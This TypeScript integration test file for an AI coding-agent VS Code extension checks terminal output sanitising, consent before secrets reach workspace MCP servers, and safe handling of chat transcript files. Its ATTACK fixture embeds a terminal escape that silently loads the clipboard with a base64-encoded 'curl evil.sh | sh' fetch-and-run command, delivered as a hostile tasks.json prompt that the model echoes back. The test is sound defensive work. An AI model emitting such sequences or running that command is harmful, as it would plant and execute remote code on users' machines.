// Issue 25 where the editor differs from the CLI, in the real extension host: a `sprout` task's terminal
// gets neutralised text (a hostile tasks.json prompt, echoed back by the model, carries OSC 52 and a
// screen clear); a workspace-defined server gets a secret variable only after a question naming the
// server, the variable and where it would go (a user-defined server is not asked); a chat transcript
// is kept 0600 even when it was looser, and one that is a symlink is neither read nor written.
import * as assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { SecretUse } from '../../../src/mcp/secretVariables';
import { sproutApi as api, until } from '../sproutHarness';
import { waitFor } from '../../waitFor';

const config = () => vscode.workspace.getConfiguration('sprout');
const workspaceFolder = process.env['SPROUT_TEST_WORKSPACE'] ?? '';
// eslint-disable-next-line no-control-regex
const OBEYED = /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const ATTACK = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u009b1A';
const TOKEN_VARIABLE = 'SPROUT_EDITOR_DEPLOY_TOKEN';
const TOKEN = 'tok-editor-secret-0123456789';

async function useFakeModel(): Promise<void> {
  const sprout = await api();
  await config().update('model.baseUrl', process.env['SPROUT_TEST_MODEL_URL'], vscode.ConfigurationTarget.Workspace);
  await config().update('model.name', 'fake-model', vscode.ConfigurationTarget.Workspace);
  await config().update('mcp.builtinServers', { workspace: false, todo: false, tests: false }, vscode.ConfigurationTarget.Workspace);
  await until(() => sprout.settings().agent.model === 'fake-model', 'the model settings');
}

/** The fake hook server's configuration with `env` added (it reaches the server through its environment). */
function hookServerWith(env: Record<string, string>): Record<string, unknown> {
  const server = JSON.parse(process.env['SPROUT_TEST_HOOK_SERVER'] ?? '{}') as { command: string; args: string[]; env: Record<string, string> };
  return { ...server, env: { ...server.env, ...env } };
}

describe('issue 25 in the editor', function () {
  this.timeout(120_000);
  after(async () => {
    for (const key of ['model.baseUrl', 'model.name', 'mcp.builtinServers', 'mcp.servers']) await config().update(key, undefined, vscode.ConfigurationTarget.Workspace);
    await config().update('mcp.servers', undefined, vscode.ConfigurationTarget.Global);
    rmSync(join(workspaceFolder, '.vscode', 'tasks.json'), { force: true });
    delete process.env[TOKEN_VARIABLE];
    await (await api()).host.invalidateServers();
  });

  it('a sprout task writes neutralised text to its terminal', async () => {
    const sprout = await api();
    await useFakeModel();
    await sprout.host.invalidateServers();
    mkdirSync(join(workspaceFolder, '.vscode'), { recursive: true });
    writeFileSync(join(workspaceFolder, '.vscode', 'tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [{ label: 'hostile', type: 'sprout', prompt: `tidy up ${ATTACK} now` }] }));
    // VS Code reads tasks.json when its file watcher reports the write (late on a busy machine): ask until it has.
    const task = await waitFor(async () => (await vscode.tasks.fetchTasks({ type: 'sprout' })).find((t) => t.name === 'hostile'), 'the sprout task provider to resolve the tasks.json task', { everyMs: 500 });
    let written = '';
    const tap = sprout.onTaskOutput((text) => (written += text));
    const ended = new Promise<number | undefined>((resolve) => {
      const listener = vscode.tasks.onDidEndTaskProcess((event) => {
        if (event.execution.task.name !== 'hostile') return;
        listener.dispose();
        resolve(event.exitCode);
      });
    });
    await vscode.tasks.executeTask(task);
    assert.equal(await ended, 0);
    tap.dispose();
    assert.match(written, /Sprout: tidy up .* now\r\n/);
    assert.match(written, /Fake model reply to: tidy up/, 'the model echoed the prompt back');
    const at = OBEYED.exec(written);
    assert.equal(at, null, `the terminal was sent ${JSON.stringify(at?.[0])}: ${JSON.stringify(written)}`);
  });

  it('a workspace server gets a secret variable only after the user allows that one; a user-defined server is not asked', async () => {
    const sprout = await api();
    process.env[TOKEN_VARIABLE] = TOKEN;
    const asked: SecretUse[] = [];
    sprout.consent.prompt = async () => true;
    sprout.secretConsent.prompt = async (use) => (asked.push(use), use.server === 'allowed');
    await config().update('mcp.servers', { refused: hookServerWith({ TOKEN: `\${env:${TOKEN_VARIABLE}}` }), allowed: hookServerWith({ TOKEN: `\${env:${TOKEN_VARIABLE}}` }) }, vscode.ConfigurationTarget.Workspace);
    await config().update('mcp.servers', { mine: hookServerWith({ TOKEN: `\${env:${TOKEN_VARIABLE}}` }) }, vscode.ConfigurationTarget.Global);
    await until(() => sprout.settings(), 'settings');
    await sprout.host.invalidateServers();
    await sprout.host.ensureServers();
    assert.deepEqual(asked.map((u) => [u.server, u.variable, u.field]).sort(), [['allowed', TOKEN_VARIABLE, 'env.TOKEN'], ['refused', TOKEN_VARIABLE, 'env.TOKEN']]);
    assert.match(asked[0]?.destination ?? '', /^the program "/);
    const env = (name: string) => {
      const t = sprout.host.servers.find((s) => s.name === name)?.transport;
      return t?.type === 'stdio' ? t.env.TOKEN : undefined;
    };
    assert.equal(env('refused'), undefined, 'the refused server does not start');
    assert.match(sprout.host.notices.join('\n'), /MCP server "refused" from this workspace did not start: you did not allow it your secret \$\{env:SPROUT_EDITOR_DEPLOY_TOKEN\}/);
    assert.equal(env('allowed'), TOKEN);
    assert.equal(env('mine'), TOKEN, 'the user\'s own server has it, unasked');
    await sprout.host.invalidateServers();
    await sprout.host.ensureServers();
    assert.equal(asked.length, 2, 'each answer is kept');
  });

  it('keeps a chat transcript 0600 even when it was looser, and refuses one that is a symlink', async () => {
    const sprout = await api();
    await useFakeModel();
    await config().update('mcp.servers', undefined, vscode.ConfigurationTarget.Workspace);
    await config().update('mcp.servers', undefined, vscode.ConfigurationTarget.Global);
    await sprout.host.invalidateServers();
    await vscode.commands.executeCommand('sprout.newChat');
    const chat = await sprout.controller.current();
    await sprout.controller.send('first');
    const transcript = sprout.index.transcriptPath(chat.id);
    chmodSync(transcript, 0o644);
    await sprout.controller.send('second');
    assert.equal(statSync(transcript).mode & 0o777, 0o600);

    const outside = mkdtempSync(join(tmpdir(), 'sprout-outside-'));
    try {
      const target = join(outside, 'notes.jsonl');
      writeFileSync(target, readFileSync(transcript));
      rmSync(transcript);
      symlinkSync(target, transcript);
      const before = readFileSync(target, 'utf8');
      await vscode.commands.executeCommand('sprout.newChat');
      await assert.rejects(sprout.controller.openChat(chat.id), /is a symbolic link; refusing/);
      assert.equal(readFileSync(target, 'utf8'), before, 'nothing was written through the link');
      await vscode.commands.executeCommand('sprout.newChat');
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });
});
